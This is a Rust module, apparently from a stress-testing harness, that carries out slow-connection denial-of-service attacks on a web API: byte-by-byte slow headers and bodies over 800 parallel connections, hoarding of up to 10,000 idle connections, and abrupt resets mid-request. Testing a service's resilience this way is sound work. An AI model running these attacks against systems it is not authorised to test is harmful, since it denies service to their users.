//! Attacks with connections that are slow, unused, or short-lived.

use std::io;
use std::time::Duration;

use tokio::io::AsyncWriteExt as _;
use tokio::time::sleep;

use crate::attacker::Attacker;
use crate::raw_connection::RawConnection;

/// Sends eight hundred requests in parallel: `start` at once, and then one byte of `bytes` every 50 ms.
async fn send_byte_by_byte(attacker: &Attacker, start: &str, bytes: &str) {
    attacker
        .repeat_in_parallel(800, async |number| {
            let mut line = attacker.connect(number).await?;
            attacker.update_tally(|tally| tally.requests += 1);
            line.stream.write_all(start.as_bytes()).await?;
            for byte in bytes.as_bytes() {
                line.stream.write_all(&[*byte]).await?;
                sleep(Duration::from_millis(50)).await;
            }
            Ok(())
        })
        .await;
}

pub(super) async fn slow_heads(attacker: &Attacker) {
    send_byte_by_byte(attacker, "GET /api/content HTTP/1.1\r\n", &"x-header: value\r\n".repeat(100)).await;
}

pub(super) async fn slow_bodies(attacker: &Attacker) {
    let start = format!(
        "POST /api/moderate HTTP/1.1\r\nhost: x\r\nx-api-key: {}\r\ncontent-type: application/json\r\n\
         content-length: 900000\r\n\r\n{{\"content\":\"",
        attacker.target.key
    );
    send_byte_by_byte(attacker, &start, &"x".repeat(10_000)).await;
}

/// Opens up to ten thousand connections from one address, and sends nothing on them.
pub(super) async fn hoarded_connections(attacker: &Attacker) {
    let mut held: Vec<RawConnection> = Vec::new();
    while held.len() < 10_000 {
        attacker.update_tally(|tally| tally.requests += 1);
        match attacker.connect(0).await {
            Ok(line) => held.push(line),
            Err(_) => {
                attacker.update_tally(|tally| tally.refused_or_unanswered += 1);
                sleep(Duration::from_millis(10)).await;
            }
        }
    }
    std::future::pending().await
}

/// Opens connections that end immediately, or in the middle of a request.
pub(super) async fn short_connections(attacker: &Attacker) {
    attacker
        .repeat_in_parallel(64, async |number| {
            let mut line: RawConnection = attacker.connect(number).await?;
            attacker.update_tally(|tally| tally.requests += 1);
            if number.is_multiple_of(2) {
                line.stream
                    .write_all(b"POST /api/moderate HTTP/1.1\r\nhost: x\r\ncontent-length: 100\r\n\r\n{")
                    .await?;
            }
            // With this setting, closing the stream sends a reset instead of a FIN.
            line.stream.set_zero_linger()?;
            io::Result::Ok(())
        })
        .await;
}
